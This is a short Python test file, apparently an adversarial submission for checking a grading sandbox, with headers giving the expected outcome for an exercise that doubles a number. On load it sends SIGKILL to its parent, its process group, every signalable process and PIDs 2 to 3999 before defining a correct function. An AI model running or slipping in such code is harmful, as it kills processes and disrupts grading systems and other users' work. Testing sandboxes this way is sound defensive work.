# attack: sends SIGKILL to its parent, its group, everybody and the numbers around its own; the answer itself is honest
# exercise: 01_double
# expect: status=passed|failed points<=4 verdicts=crashed

import os
import signal

for pid in (os.getppid(), 0, -1, -os.getpgid(0), *range(2, 4000)):
    if pid not in (os.getpid(),):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def double(x):
    return x * 2
